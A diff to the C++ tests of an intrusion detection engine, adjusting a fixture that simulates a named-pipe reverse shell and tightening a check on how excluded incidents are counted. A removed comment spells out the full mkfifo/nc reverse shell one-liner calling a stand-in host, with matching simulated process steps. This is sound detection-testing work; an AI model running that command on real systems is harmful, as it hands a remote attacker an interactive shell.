@@ -84,16 +84,8 @@ struct Fixture {
             if (alert->rule.id == detect::pipe_rule().id) return &*alert;
         return nullptr;
     }
-    // mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 >/tmp/f, up to the connect
     void shell(bool connects = true) {
-        history.exec(100, 1, {"bash", "-c", "..."});
-        history.exec(101, 100, {"mkfifo", "/tmp/f"});
-        history.make_fifo(101, 100, "/tmp/f");
-        history.exec(102, 100, {"cat", "/tmp/f"});
-        history.exec(103, 100, {"sh", "-i"});
-        history.open(104, 100, "bash", Mode::write);
-        history.open(102, 100, "cat", Mode::read);
-        history.exec(104, 100, {"nc", "192.0.2.1", "4444"});
+        history.plain_shell();
         if (connects) history.connect(104, 100, "nc");
         run();
     }
@@ -301,14 +293,15 @@ BOOST_FIXTURE_TEST_CASE(an_excluded_event_does_not_count_for_correlations, Fixtu
     BOOST_TEST(alerts[0].evidence.size() == 2u);
 }
 
-BOOST_FIXTURE_TEST_CASE(an_incident_is_excluded_by_the_cores_rule_id, Fixture) {
+// The filter's count grew with each judgement of the incident.
+BOOST_FIXTURE_TEST_CASE(an_incident_is_excluded_by_the_cores_rule_id_and_counts_once, Fixture) {
     load(filter_of("f", "[" + detect::pipe_rule().id + "]", "UserId: '1000'"));
     shell();
     add(detector.expire(event::Time::max()));
     BOOST_TEST(alerts.empty());
     BOOST_TEST(detector.statistics().incidents == 0u);
     BOOST_TEST(detector.statistics().excluded == 1u);
-    BOOST_TEST(detector.filter_counts().at(0).excluded >= 1u);
+    BOOST_TEST(detector.filter_counts().at(0).excluded == 1u);
 }
 
 BOOST_FIXTURE_TEST_CASE(an_excluded_incident_is_told_once_where_somebody_wants_to_know, Telling) {
